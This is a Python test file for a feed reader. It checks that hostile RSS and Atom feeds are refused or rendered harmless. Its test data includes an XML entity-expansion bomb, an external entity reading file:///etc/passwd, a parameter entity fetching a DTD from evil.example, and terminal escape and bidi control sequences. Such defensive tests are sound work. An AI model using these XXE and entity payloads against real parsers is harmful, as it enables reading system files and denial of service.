"""Feeds that mean harm."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reader.errors import SourceError
from reader.model.listing import Listing
from reader.sources.feeds.reading import read_feed
from reader.text import is_inert
from tests.sources.made import atom, page, rss

LINK = "<link>https://paper.example/1</link>"
BOMB = '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'


@pytest.mark.parametrize(
    "prolog",
    [
        BOMB,
        f'<?xml version="1.0"?>\n<!-- <rss> -->\n{BOMB}',
        "<!DOCTYPE rss SYSTEM 'x' [ <!ENTITY % p SYSTEM 'http://evil.example/x.dtd'> %p; ]>",
        "<!DOCTYPE rss [ <!NOTATION n SYSTEM 'x'> <!ENTITY e SYSTEM 'file:///etc/passwd'> ]>",
    ],
)
def test_declared_entities_are_refused(prolog: str) -> None:
    with pytest.raises(SourceError, match="expansion"):
        read_feed(page(prolog + rss(f"<title>&b;</title>{LINK}").partition("?>")[2].strip()))


@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://paper.example/rss-0.91.dtd">',
        "<!DOCTYPE rss [ <!ELEMENT rss ANY> ]>",
    ],
)
def test_a_document_type_without_entities_is_passed_over(prolog: str) -> None:
    (entry,) = read_feed(page(prolog + rss(f"<title>One &mdash; two</title>{LINK}").partition("?>")[2])).entries
    assert entry.headline == "One — two"


def test_a_document_type_hidden_behind_the_root_expands_nothing() -> None:
    text = rss(f"<title>x&b;y</title>{LINK}", head=BOMB).partition("?>")[2]
    try:
        listing = read_feed(page(text))
    except SourceError:
        return
    assert not any("haha" in entry.headline for entry in listing.entries)


def test_nothing_that_moves_a_terminal_comes_through() -> None:
    evil = "a&#27;]52;c;eA==&#7;b\u202ec\x1b[2Jd\x9b31m\x00"
    item = (
        f"<title>{evil}</title><link>https://paper.example/{evil}</link><guid>{evil}</guid><author>{evil}</author>"
        f"<description>{evil}</description><content:encoded>{evil}</content:encoded><source url='x'>{evil}</source>"
    )
    listing = read_feed(page(rss(item, title=evil)))
    assert listing.entries
    assert inert(listing)


def inert(listing: Listing) -> bool:
    texts = [listing.name, listing.byline, listing.older, listing.feed_url]
    for entry in listing.entries:
        texts += [entry.key, entry.url, entry.headline, entry.byline, entry.masthead, entry.dek, entry.body]
    return all(map(is_inert, texts))


@pytest.mark.parametrize(
    "inside",
    [
        "<title>&#99999999999999;</title>",
        "<title>&#xD800;</title>",
        "<title type='application/octet-stream' mode='base64'>!!!</title>",
        "<link href='http://[broken'/>",
        "<link rel='alternate'/>",
        "<updated>9999-99-99T99:99:99Z</updated>",
        "<author/><author><name/></author>",
        "<content src='http://[x'/>",
        "<media:group xmlns:media='http://search.yahoo.com/mrss/'><media:content url='http://[x'/></media:group>",
        "<b>" * 3_000,
    ],
)
def test_a_damaged_entry_harms_no_other(inside: str) -> None:
    good = "<title>Good</title><link href='https://paper.example/good'/>"
    try:
        listing = read_feed(page(atom(good, inside)))
    except SourceError as told:
        pytest.fail(f"refused: {told}")
    assert listing.entries[0].headline == "Good"


@given(st.text())
def test_any_text_in_a_feed_is_read_or_refused(text: str) -> None:
    for feed in (rss(text), rss(f"<title>{text}</title>{LINK}<description>{text}</description>"), "<rss>" + text, text):
        try:
            listing = read_feed(page(feed.encode("utf-8", "surrogatepass")))
        except SourceError:
            continue
        assert inert(listing)
